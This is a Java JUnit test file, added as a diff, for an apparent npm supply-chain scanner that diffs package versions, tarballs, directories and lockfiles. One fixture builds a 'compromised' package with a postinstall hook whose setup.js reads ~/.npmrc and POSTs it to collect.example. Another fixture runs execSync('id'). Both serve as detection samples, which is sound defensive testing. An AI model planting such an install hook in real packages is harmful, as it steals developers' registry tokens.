@@ -1,0 +1,185 @@
+package dev.portcullis.engine;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+import static org.assertj.core.groups.Tuple.tuple;
+
+import dev.portcullis.diff.Capability;
+import dev.portcullis.diff.PackageDiff;
+import dev.portcullis.model.InputException;
+import dev.portcullis.model.Verdict;
+import dev.portcullis.report.DiffReport;
+import dev.portcullis.report.InspectReport;
+import dev.portcullis.testkit.FakeRegistry;
+import dev.portcullis.testkit.Fixtures;
+import dev.portcullis.testkit.PublishedPackages;
+import dev.portcullis.testkit.TarballBuilder;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Clock;
+import java.time.Instant;
+import java.time.ZoneOffset;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/**
+ * {@code portcullis diff} through the engine: two registry versions published as real tarballs on a registry at
+ * 127.0.0.1, two .tgz files, two directories, and the real lockfiles of every format (the real is-number 7.0.0
+ * tarball and its recorded packument served over HTTP).
+ */
+class DiffPipelineTest {
+    @TempDir
+    Path work;
+    private FakeRegistry registry;
+    private PublishedPackages published;
+
+    @BeforeEach
+    void setUp() throws IOException {
+        published = new PublishedPackages(Files.createDirectories(work.resolve("registry")));
+        registry = FakeRegistry.start(published.dir());
+        published.publish("left-align", "1.0.0", clean("1.0.0"));
+        published.publish("left-align", "1.0.1", compromised("1.0.1"));
+    }
+
+    @AfterEach
+    void tearDown() {
+        registry.close();
+    }
+
+    static TarballBuilder cleanBuilder(String version) {
+        return TarballBuilder.tarball()
+                .file("package/package.json", "{\"name\":\"left-align\",\"version\":\"" + version + "\"}")
+                .file("package/index.js", "module.exports = function leftAlign(s) {\n  return s.trimStart();\n};\n");
+    }
+
+    static byte[] clean(String version) {
+        return cleanBuilder(version).build();
+    }
+
+    static byte[] compromised(String version) {
+        return TarballBuilder.tarball()
+                .file("package/package.json", "{\"name\":\"left-align\",\"version\":\"" + version + "\","
+                        + "\"scripts\":{\"postinstall\":\"node setup.js\"}}")
+                .file("package/index.js", "module.exports = function leftAlign(s) {\n  return s.trimStart();\n};\n")
+                .file("package/setup.js", "const https = require('https');\nconst fs = require('fs');\n"
+                        + "const os = require('os');\n"
+                        + "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
+                        + "https.request({hostname: 'collect.example', method: 'POST'}).end(t);\n")
+                .build();
+    }
+
+    private Environment environment() {
+        return new Environment(Map.of("npm_config_globalconfig", work.resolve("no-global-npmrc").toString()),
+                work.resolve("home"), Clock.fixed(Instant.parse("2026-11-22T12:00:00Z"), ZoneOffset.UTC),
+                work.resolve("cache"));
+    }
+
+    private DiffReport diff(FakeRegistry at, Path dir, DiffOptions options) throws Exception {
+        try (Portcullis run = Portcullis.open(environment(), new Run(dir, null, at.url(), false, true, false))) {
+            return new DiffPipeline(run).run(options);
+        }
+    }
+
+    @Test
+    void twoRegistryVersions_theCompromisedOneIsBlockedWithItsScriptCapabilitiesAndFindings() throws Exception {
+        DiffReport report = diff(registry, work, new DiffOptions.Packages("left-align@1.0.0", "left-align@^1.0.1"));
+
+        assertThat(report.entries()).hasSize(1);
+        DiffReport.Entry entry = report.entries().getFirst();
+        assertThat(entry.error()).isNull();
+        assertThat(entry.verdict()).isEqualTo(Verdict.BLOCK);
+        assertThat(report.passed()).isFalse();
+        PackageDiff d = entry.diff();
+        assertThat(d.label()).isEqualTo("left-align 1.0.0 → 1.0.1");
+        assertThat(d.scripts()).extracting(PackageDiff.ScriptChange::script, PackageDiff.ScriptChange::to)
+                .containsExactly(tuple("postinstall", "node setup.js"));
+        assertThat(d.capabilities()).filteredOn(c -> c.direction() == PackageDiff.Direction.GAINED)
+                .extracting(PackageDiff.CapabilityChange::capability, PackageDiff.CapabilityChange::at)
+                .contains(tuple(Capability.NETWORK, "setup.js:5"));
+        assertThat(d.newFindings()).extracting(f -> f.rule().id()).contains("content/credential-exfiltration");
+        assertThat(d.size().toFiles()).isEqualTo(3);
+    }
+
+    @Test
+    void twoTarballFilesAndTwoDirectories_compareAlike() throws Exception {
+        Files.write(work.resolve("old.tgz"), clean("1.0.0"));
+        Files.write(work.resolve("new.tgz"), compromised("1.0.1"));
+        for (String version : List.of("1.0.0", "1.0.1")) {
+            Path dir = Files.createDirectories(work.resolve("dir-" + version));
+            Files.writeString(dir.resolve("package.json"), "{\"name\":\"left-align\",\"version\":\"" + version
+                    + "\"}");
+            Files.writeString(dir.resolve("index.js"), version.equals("1.0.0") ? "module.exports = 1;\n"
+                    : "module.exports = require('child_process').execSync('id');\n");
+        }
+
+        DiffReport tarballs = diff(registry, work, new DiffOptions.Packages("old.tgz", "new.tgz"));
+        DiffReport dirs = diff(registry, work, new DiffOptions.Packages("dir-1.0.0", "./dir-1.0.1"));
+
+        assertThat(tarballs.entries().getFirst().diff().scripts()).hasSize(1);
+        assertThat(tarballs.entries().getFirst().diff().publication()).isEmpty();
+        PackageDiff d = dirs.entries().getFirst().diff();
+        assertThat(d.files()).extracting(PackageDiff.FileChange::path).containsExactly("index.js", "package.json");
+        assertThat(d.files().getFirst().diff()).isEqualTo("""
+                --- a/index.js
+                +++ b/index.js
+                @@ -1,1 +1,1 @@
+                -module.exports = 1;
+                +module.exports = require('child_process').execSync('id');
+                """);
+        assertThat(d.capabilities()).extracting(PackageDiff.CapabilityChange::capability,
+                PackageDiff.CapabilityChange::at, PackageDiff.CapabilityChange::newToPackage)
+                .containsExactly(tuple(Capability.PROCESS, "index.js:1", true));
+        assertThat(registry.requests()).isEmpty();
+    }
+
+    @Test
+    void aVersionTheRegistryDoesNotHave_isAnInputErrorOfItsEntry_andABadTargetIsAnInputException() throws Exception {
+        DiffReport report = diff(registry, work, new DiffOptions.Packages("left-align@1.0.0", "left-align@9.9.9"));
+
+        assertThat(report.entries()).singleElement().satisfies(e -> {
+            assertThat(e.diff()).isNull();
+            assertThat(e.error().kind()).isEqualTo(InspectReport.ErrorKind.INPUT);
+            assertThat(e.error().message()).isEqualTo("no version of left-align matches '9.9.9' (latest is 1.0.1)");
+        });
+        assertThatThrownBy(() -> diff(registry, work, new DiffOptions.Packages("./missing.tgz", "left-align@1.0.0")))
+                .isInstanceOf(InputException.class).hasMessageContaining("no such file or directory: ./missing.tgz");
+    }
+
+    /** The real lockfile of each format that locks is-number 7.0.0, against npm's real empty lockfile. */
+    @ParameterizedTest
+    @ValueSource(strings = {"npm/one-package-v1/package-lock.json", "npm/one-package-v2/package-lock.json",
+            "npm/one-package-v3/package-lock.json", "npm-shrinkwrap/one-package-v3/npm-shrinkwrap.json",
+            "pnpm/one-package-v5/pnpm-lock.yaml", "pnpm/one-package-v6/pnpm-lock.yaml",
+            "pnpm/one-package-v9/pnpm-lock.yaml", "yarn-classic/one-package/yarn.lock",
+            "yarn-berry/one-package/yarn.lock", "bun/one-package-v0/bun.lock", "bun/one-package-v2/bun.lock"})
+    void aLockfileOfEveryFormat_addsAndRemovesIsNumber_fetchedAsTheRealTarball(String lockfile) throws Exception {
+        try (FakeRegistry recorded = FakeRegistry.start(Fixtures.path("registry"))) {
+            Path empty = Fixtures.path("npm/empty-v3/package-lock.json");
+            Path locked = Fixtures.path(lockfile);
+
+            DiffReport added = diff(recorded, work, new DiffOptions.Lockfiles(empty, locked));
+            DiffReport removed = diff(recorded, work, new DiffOptions.Lockfiles(locked, empty));
+            DiffReport same = diff(recorded, work, new DiffOptions.Lockfiles(locked, locked));
+
+            assertThat(added.entries()).singleElement().satisfies(e -> {
+                assertThat(e.error()).isNull();
+                assertThat(e.diff().label()).isEqualTo("is-number@7.0.0 (added)");
+                assertThat(e.diff().files()).extracting(PackageDiff.FileChange::path)
+                        .containsExactly("LICENSE", "README.md", "index.js", "package.json");
+                assertThat(e.verdict()).isEqualTo(Verdict.ALLOW);
+            });
+            assertThat(removed.entries()).singleElement().satisfies(e -> {
+                assertThat(e.diff().kind()).isEqualTo(PackageDiff.Kind.REMOVED);
+                assertThat(e.diff().size().fromFiles()).isEqualTo(4);
+            });
+            assertThat(same.entries()).isEmpty();
+        }
+    }
+}
